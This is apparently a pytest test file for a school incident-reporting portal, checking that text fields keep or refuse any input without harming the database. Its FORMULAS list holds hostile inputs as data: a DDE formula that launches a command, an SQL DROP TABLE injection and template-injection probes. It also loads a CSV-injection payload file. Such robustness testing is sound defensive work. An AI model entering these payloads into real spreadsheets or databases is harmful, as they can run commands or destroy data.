"""Whatever is typed: every text field gives it back to the letter, or refuses it, and no database is ever upset."""

from __future__ import annotations

import json
from collections.abc import Iterable
from pathlib import Path
from uuid import UUID

import pytest
from sqlalchemy import select
from sqlalchemy.orm import undefer

from school_portal.core.authz import everybody, scope
from school_portal.core.db import PortalSession
from school_portal.core.errors import RuleBroken
from school_portal.incidents import queries, service
from school_portal.incidents.domain import (
    CLASS_LIMIT,
    FACTS_LIMIT,
    NAME_LIMIT,
    REASON_LIMIT,
    SHORT_LIMIT,
    CorrectPerson,
    EntryKind,
    Known,
    NamesReason,
    Part,
    Receiver,
    Told,
    storable,
)
from school_portal.incidents.models import AuthorityTold, Incident, Involvement, Person
from school_portal.web.forms import tidy
from tests.incidents.cases import FACTS, card, command, decide, file, first_difference, stored
from tests.world import World

FORMULAS = (
    '=HYPERLINK("http://example.org?x="&A1,"Xem")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'; DROP TABLE incident; --",
    "{{ 7*7 }} ${7*7} <%= 7*7 %> %(name)s {0}",
)
ODD = (
    "\x00",
    "trước\x00sau",
    "\x01\x02\x1f\x7f",
    "\ufeffEm\u200b A\u00a0bị đẩy",
    "\u202eđảo ngược\u202c",
    "Hoa\u0300 \u0110\u00d0\u00f0",
    "dòng 1\r\ndòng 2\rdòng 3\u2028dòng 4",
    "𠮷野家 👩‍👩‍👧 \U0010ffff",
    "a" * 5000,
    "ệ" * 5000,
)


def told_with(text: str) -> dict[str, object]:
    """A report with this text in each of its fields."""
    return {
        "facts": text if text.strip() else FACTS,
        "family_danger": Known.YES,
        "family_reason": text,
        "people": (card(Part.HARMED, name=text, class_name=text),),
        "told": (Told(Receiver.POLICE, by=text, reference=text),),
    }


def kept(session: PortalSession, case_ids: Iterable[UUID]) -> dict[UUID, tuple[str, ...]]:
    """What each case gives back: facts, reason, name, class, who told, reference."""
    found: dict[UUID, list[str]] = {}
    incidents = select(Incident).options(undefer(Incident.facts), undefer(Incident.family_reason))
    for row in session.scalars(scope(incidents, everybody(Incident.org_path))):
        found[row.id] = [row.facts or "", row.family_reason or ""]
    people = select(Involvement, Person).join(Person, Person.id == Involvement.person_id)
    people = scope(scope(people, everybody(Involvement.org_path)), everybody(Person.org_path))
    for involvement, person in session.execute(people.options(undefer(Person.name))):
        found[involvement.incident_id] += [person.name or "", involvement.class_name]
    texts = (undefer(AuthorityTold.told_by), undefer(AuthorityTold.reference))
    told = select(AuthorityTold).options(*texts)
    for row in session.scalars(scope(told, everybody(AuthorityTold.org_path))):
        found[row.incident_id] += [row.told_by or "", row.reference or ""]
    return {case: tuple(found[case]) for case in case_ids}


def expected(text: str) -> tuple[str, ...]:
    """The same as it should be: to the letter, as far as the field is long."""
    name = text[:NAME_LIMIT]
    return (
        text if text.strip() else FACTS,
        text[:REASON_LIMIT],
        name,
        storable(text)[:CLASS_LIMIT],
        text[:SHORT_LIMIT],
        text[:SHORT_LIMIT],
    )


def go_through_every_field(session: PortalSession, world: World, texts: Iterable[str]) -> None:
    """Each text through report, added facts and the reason for lowering, and back."""
    wanted = list(dict.fromkeys(texts))
    noise = file(world, "y")
    cases = {file(world, **told_with(text)): text for text in wanted}
    session.expunge_all()
    found = kept(session, cases)
    assert {case: found[case] for case in cases} == {case: expected(text) for case, text in cases.items()}
    assert stored(session, noise).facts == FACTS

    head, talked = world.people["head_x"], file(world, people=(card(Part.HARMED, injury="clinic"),))
    blank = [text for text in wanted if not text.strip()]
    said, reasons = joined(wanted, FACTS_LIMIT), joined(wanted, REASON_LIMIT)
    for text in said:
        service.add_facts(session, head, talked, text)
    for text in blank:
        with pytest.raises(RuleBroken), session.begin_nested():
            service.add_facts(session, head, talked, text)
    for text in reasons:
        decide(world, "head_x", talked, severity=2, reason=text)
        assert stored(session, talked).lowering_reason == text
    entries = queries.list_chronology(session, head, talked)
    assert [entry.text for entry in entries if entry.kind is EntryKind.FACTS_ADDED] == said
    assert first_difference(session) is None


def joined(texts: Iterable[str], limit: int) -> list[str]:
    """All of them, as few texts as the limit allows."""
    found = [""]
    for text in texts:
        if len(found[-1]) + len(text) + 1 > limit:
            found.append("")
        found[-1] += f"|{text[: limit - 1]}"
    return found


def test_formulas_and_odd_characters_come_back_to_the_letter(session: PortalSession, world: World) -> None:
    go_through_every_field(session, world, (*FORMULAS, *ODD))


@pytest.mark.real_data
def test_each_of_the_515_naughty_strings_comes_back_to_the_letter(
    session: PortalSession, world: World, real_data: Path
) -> None:
    strings = json.loads((real_data / "texts" / "blns.json").read_text(encoding="utf-8"))
    assert len(strings) == 515
    formulas = (real_data / "texts" / "csv_injection_payloads.txt").read_text(encoding="utf-8")
    go_through_every_field(session, world, (*strings, *formulas.splitlines()))


@pytest.mark.real_data
def test_what_the_forms_hand_over_is_tidied_once_and_kept_as_it_is(
    session: PortalSession, world: World, real_data: Path
) -> None:
    strings = json.loads((real_data / "texts" / "blns.json").read_text(encoding="utf-8"))
    for text in (*strings, *FORMULAS, *ODD):
        once = tidy(text)
        assert tidy(once) == once
        assert storable(once.replace("\n", "").replace("\t", "")) == once.replace("\n", "").replace("\t", "")
    go_through_every_field(session, world, map(tidy, strings[::9]))


def test_a_person_is_added_corrected_and_found_whatever_the_name(
    session: PortalSession, world: World
) -> None:
    head = world.people["head_x"]
    case = file(world)
    for text in (*FORMULAS, *ODD):
        [first, *_] = queries.people_of(session, head, case)
        person = card(Part.HARMED, name=f"Mai {text}", class_name=text)
        service.correct_person(session, head, CorrectPerson(case, first.id, first.version, person))
        session.flush()
        opened = service.read_names(session, head, case, NamesReason.HELP).case
        assert opened.people[0].name == f"Mai {text}"[:NAME_LIMIT]
        assert opened.people[0].class_name == storable(text)[:CLASS_LIMIT]
        assert [row.id for row in queries.list_naming(session, head, "mai")] == [case]
        for look in (queries.list_naming, queries.find_by_number):
            look(session, head, text)


def test_what_is_too_long_for_any_field_is_refused_or_cut_and_never_a_fault(
    session: PortalSession, world: World
) -> None:
    long = "ấ b" * 7000
    for changes in ({"facts": long}, {"facts": "\n" * 20_000}):
        with pytest.raises(RuleBroken), session.begin_nested():
            file(world, **changes)
    case = file(world, **(told_with(long) | {"facts": FACTS}))
    assert kept(session, [case])[case] == (FACTS, *expected(long)[1:])
    head = world.people["head_x"]
    for act in (service.add_facts, service.link_incident):
        with pytest.raises(RuleBroken):
            act(session, head, case, long)
    with pytest.raises(RuleBroken):
        decide(world, "head_x", case, types=(long,))
    with pytest.raises(RuleBroken):
        service.report_incident(
            session, world.people["teacher_x"], command(world, place="\x00", day_part=long)
        )
    assert [row.id for row in queries.list_naming(session, head, long)] == [case]
